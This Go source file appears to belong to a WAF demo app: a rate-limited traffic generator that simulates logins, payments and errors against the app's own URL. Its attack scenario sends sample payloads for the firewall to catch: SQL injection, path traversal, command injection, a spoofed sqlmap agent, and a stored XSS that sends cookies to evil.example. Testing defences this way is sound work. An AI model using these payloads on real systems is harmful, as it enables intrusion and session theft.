package demoapp

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// Limits of the traffic generator. The rate cap keeps it a demo, never a
// load test, even when misconfigured.
const (
	defaultTrafficRate        = 2.0
	maxTrafficRate            = 50.0
	defaultTrafficMaxRequests = 600 // five minutes at the default rate
	defaultTrafficTimeout     = 10 * time.Second
	maxTrafficBody            = 64 << 10
)

// TrafficOptions paces and bounds GenerateTraffic. The zero value sends 600
// requests at 2 per second.
type TrafficOptions struct {
	// Rate is requests per second; 0 means 2, and more than 50 means 50.
	Rate float64
	// MaxRequests is how many requests to send in all; 0 means 600.
	MaxRequests int
	// Client sends the requests; nil means a client with a 10s timeout.
	// Redirects are never followed, whatever the client's policy, so that
	// no request leaves baseURL.
	Client *http.Client
	// Seed makes the mix of requests repeatable; 0 picks a random seed.
	Seed uint64
}

// GenerateTraffic plays a few users of the app against baseURL (the app
// itself, or the gateway in front of it): logins good and bad, payments
// valid, invalid and failing, lookups, slow and failing test routes, and now
// and then an obvious attack for the WAF to catch. It sends one request at
// a time at opts.Rate, only to baseURL, and stops after opts.MaxRequests
// requests (returning nil) or when ctx is done (returning ctx.Err()).
// Failed requests are logged and do not stop it.
func (a *App) GenerateTraffic(ctx context.Context, baseURL string, opts TrafficOptions) error {
	base, err := url.Parse(baseURL)
	if err != nil || (base.Scheme != "http" && base.Scheme != "https") || base.Host == "" {
		return fmt.Errorf("demoapp: traffic base URL %q: want http://host:port or https://host:port", baseURL)
	}
	g := newTrafficGen(base, opts, a.logger.With("component", "traffic"))
	interval := time.Duration(float64(time.Second) / g.rate)
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for g.sent < g.max {
		if g.sent > 0 {
			select {
			case <-ctx.Done():
			case <-ticker.C:
			}
		}
		if err := ctx.Err(); err != nil {
			g.log.Info("traffic stopped", "sent", g.sent, "reason", err.Error())
			return err
		}
		g.step(ctx)
	}
	g.log.Info("traffic finished", "sent", g.sent)
	return nil
}

// trafficGen is one run of GenerateTraffic: its pacing, randomness and the
// state its simulated users build up (tokens, payment ids).
type trafficGen struct {
	base     *url.URL
	client   *http.Client
	rng      *rand.Rand
	log      *slog.Logger
	rate     float64
	max      int
	sent     int
	tokens   map[string]string // username to bearer token
	payments []string          // ids this run created, for lookups
}

func newTrafficGen(base *url.URL, opts TrafficOptions, log *slog.Logger) *trafficGen {
	g := &trafficGen{base: base, log: log, rate: opts.Rate, max: opts.MaxRequests, tokens: map[string]string{}}
	if g.rate <= 0 {
		g.rate = defaultTrafficRate
	}
	g.rate = min(g.rate, maxTrafficRate)
	if g.max <= 0 {
		g.max = defaultTrafficMaxRequests
	}
	client := http.Client{Timeout: defaultTrafficTimeout}
	if opts.Client != nil {
		client = *opts.Client
	}
	client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	g.client = &client
	seed := opts.Seed
	if seed == 0 {
		seed = rand.Uint64()
	}
	g.rng = rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	return g
}

// scenario is one kind of request in the mix, with its share of it.
type scenario struct {
	weight int
	run    func(g *trafficGen, ctx context.Context)
}

// scenarios is weighted to look like a quiet production day: mostly reads
// and payments, some user mistakes, a few errors and attacks.
var scenarios = []scenario{
	{10, (*trafficGen).health},
	{8, (*trafficGen).login},
	{6, (*trafficGen).badLogin},
	{14, (*trafficGen).listPayments},
	{18, (*trafficGen).createPayment},
	{6, (*trafficGen).invalidPayment},
	{12, (*trafficGen).getPayment},
	{4, (*trafficGen).noToken},
	{5, (*trafficGen).slow},
	{2, (*trafficGen).testError},
	{1, (*trafficGen).testPanic},
	{5, (*trafficGen).attack},
}

// step sends exactly one request, chosen by weight.
func (g *trafficGen) step(ctx context.Context) {
	total := 0
	for _, s := range scenarios {
		total += s.weight
	}
	n := g.rng.IntN(total)
	for _, s := range scenarios {
		if n < s.weight {
			s.run(g, ctx)
			return
		}
		n -= s.weight
	}
}

// call describes one request of a scenario.
type call struct {
	method, path string
	query        url.Values
	body         any    // sent as JSON when not nil
	token        string // bearer token, if any
	userAgent    string // "" means the generator's own
}

// do sends c below baseURL and returns the status and up to 64 KiB of the
// body; status 0 means the request failed and was logged.
func (g *trafficGen) do(ctx context.Context, c call) (int, []byte) {
	g.sent++
	u := *g.base
	u.Path = strings.TrimSuffix(u.Path, "/") + c.path
	u.RawPath = ""
	u.RawQuery = c.query.Encode()
	var body io.Reader
	if c.body != nil {
		b, err := json.Marshal(c.body)
		if err != nil {
			panic(err) // scenarios only send marshalable values
		}
		body = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, c.method, u.String(), body)
	if err != nil {
		g.log.Warn("traffic request not built", "path", c.path, "error", err.Error())
		return 0, nil
	}
	if c.body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	req.Header.Set("User-Agent", cmp.Or(c.userAgent, "warden-demo-traffic/1.0"))
	resp, err := g.client.Do(req)
	if err != nil {
		if ctx.Err() == nil {
			g.log.Warn("traffic request failed", "method", c.method, "path", c.path, "error", err.Error())
		}
		return 0, nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, maxTrafficBody))
	io.Copy(io.Discard, io.LimitReader(resp.Body, maxTrafficBody)) // lets the connection be reused
	g.log.Debug("traffic request", "method", c.method, "path", c.path, "status", resp.StatusCode)
	return resp.StatusCode, b
}

// user picks a demo user and, if it has no token yet, logs it in instead:
// then the login is this step's request and ok is false.
func (g *trafficGen) user(ctx context.Context) (token string, ok bool) {
	names := []string{"alice", "bob"}
	name := names[g.rng.IntN(len(names))]
	if tok, ok := g.tokens[name]; ok {
		return tok, true
	}
	g.loginAs(ctx, name)
	return "", false
}

func (g *trafficGen) loginAs(ctx context.Context, name string) {
	status, body := g.do(ctx, call{method: "POST", path: "/api/auth/login",
		body: loginRequest{Username: name, Password: demoUsers[name].password}})
	var resp loginResponse
	if status == http.StatusOK && json.Unmarshal(body, &resp) == nil && resp.Token != "" {
		g.tokens[name] = resp.Token
	}
}

// authed sends c with a user's token, forgetting the token if it expired.
func (g *trafficGen) authed(ctx context.Context, c call) (int, []byte) {
	token, ok := g.user(ctx)
	if !ok {
		return 0, nil
	}
	c.token = token
	status, body := g.do(ctx, c)
	if status == http.StatusUnauthorized {
		for name, tok := range g.tokens {
			if tok == token {
				delete(g.tokens, name)
			}
		}
	}
	return status, body
}

func (g *trafficGen) pick(options ...string) string { return options[g.rng.IntN(len(options))] }

func (g *trafficGen) health(ctx context.Context) {
	g.do(ctx, call{method: "GET", path: "/api/health"})
}

func (g *trafficGen) login(ctx context.Context) {
	g.loginAs(ctx, g.pick("alice", "bob"))
}

func (g *trafficGen) badLogin(ctx context.Context) {
	creds := [][2]string{{"alice", "wonderlnad"}, {"bob", "Builder"}, {"admin", "admin"}, {"carol", "password123"}}
	c := creds[g.rng.IntN(len(creds))]
	g.do(ctx, call{method: "POST", path: "/api/auth/login", body: loginRequest{Username: c[0], Password: c[1]}})
}

func (g *trafficGen) listPayments(ctx context.Context) {
	g.authed(ctx, call{method: "GET", path: "/api/payments"})
}

// demoIBANs are valid example IBANs from the banks' own documentation.
var demoIBANs = []string{
	"NO9386011117947",
	"SE4550000000058398257466",
	"DK5000400440116243",
	"DE89370400440532013000",
	"FI2112345600000785",
}

func (g *trafficGen) createPayment(ctx context.Context) {
	cents := g.rng.IntN(100)
	if g.rng.IntN(8) == 0 {
		cents = 13 // the provider "fails" on these: error traffic
	} else if cents == 13 {
		cents = 0
	}
	req := paymentRequest{
		Amount:        fmt.Sprintf("%d.%02d", 1+g.rng.IntN(4999), cents),
		Currency:      currencies[g.rng.IntN(len(currencies))],
		RecipientIBAN: demoIBANs[g.rng.IntN(len(demoIBANs))],
		Reference:     g.pick("Invoice 2025-0117", "Rent March", "Order #48213", "Consulting fee", "Refund"),
	}
	status, body := g.authed(ctx, call{method: "POST", path: "/api/payments", body: req})
	var p payment
	if status == http.StatusCreated && json.Unmarshal(body, &p) == nil && p.ID != "" {
		if len(g.payments) >= maxPaymentsPerUser {
			g.payments = g.payments[1:]
		}
		g.payments = append(g.payments, p.ID)
	}
}

func (g *trafficGen) invalidPayment(ctx context.Context) {
	req := paymentRequest{Amount: "250.00", Currency: "NOK", RecipientIBAN: "NO9386011117947", Reference: "Typo"}
	switch g.rng.IntN(4) {
	case 0:
		req.Amount = g.pick("12.345", "-40.00", "0", "1,50")
	case 1:
		req.Currency = g.pick("USD", "nok", "")
	case 2:
		req.RecipientIBAN = g.pick("NO9386011117948", "SE45 5000 0000 0583 9825 7467", "12345")
	default:
		req = paymentRequest{}
	}
	g.authed(ctx, call{method: "POST", path: "/api/payments", body: req})
}

func (g *trafficGen) getPayment(ctx context.Context) {
	// Lookups of ids another user created, or that never existed, are 404s
	// as in real traffic.
	id := "pay_" + strings.Repeat("0", 16)
	if len(g.payments) > 0 && g.rng.IntN(5) != 0 {
		id = g.payments[g.rng.IntN(len(g.payments))]
	}
	g.authed(ctx, call{method: "GET", path: "/api/payments/" + id})
}

func (g *trafficGen) noToken(ctx context.Context) {
	g.do(ctx, call{method: "GET", path: "/api/payments", token: g.pick("", "expired-or-forged")})
}

func (g *trafficGen) slow(ctx context.Context) {
	ms := 100 + g.rng.IntN(1400)
	g.do(ctx, call{method: "GET", path: "/api/test/slow", query: url.Values{"ms": {fmt.Sprint(ms)}}})
}

func (g *trafficGen) testError(ctx context.Context) {
	g.do(ctx, call{method: "GET", path: "/api/test/error"})
}

func (g *trafficGen) testPanic(ctx context.Context) {
	g.do(ctx, call{method: "GET", path: "/api/test/panic"})
}

// attack sends one request an OWASP CRS rule set flags (SQL injection, XSS,
// path traversal, command injection, a scanner's user agent), so that the
// WAF has something to block in the demo.
func (g *trafficGen) attack(ctx context.Context) {
	switch g.rng.IntN(6) {
	case 0:
		g.do(ctx, call{method: "GET", path: "/api/payments", query: url.Values{"q": {"' OR 1=1--"}}})
	case 5:
		g.authed(ctx, call{method: "POST", path: "/api/payments", body: paymentRequest{
			Amount: "1.00", Currency: "EUR", RecipientIBAN: demoIBANs[0],
			Reference: "<script>fetch('//evil.example/'+document.cookie)</script>"}})
	case 1:
		g.do(ctx, call{method: "GET", path: "/api/payments", query: url.Values{"search": {"<script>alert(document.cookie)</script>"}}})
	case 2:
		g.do(ctx, call{method: "GET", path: "/api/files", query: url.Values{"name": {"../../../../etc/passwd"}}})
	case 3:
		g.do(ctx, call{method: "POST", path: "/api/auth/login",
			body:      loginRequest{Username: "admin' OR '1'='1' --", Password: "x"},
			userAgent: "sqlmap/1.8.4#stable (https://sqlmap.org)"})
	default:
		g.do(ctx, call{method: "GET", path: "/api/health", query: url.Values{"host": {"127.0.0.1; cat /etc/passwd"}}})
	}
}
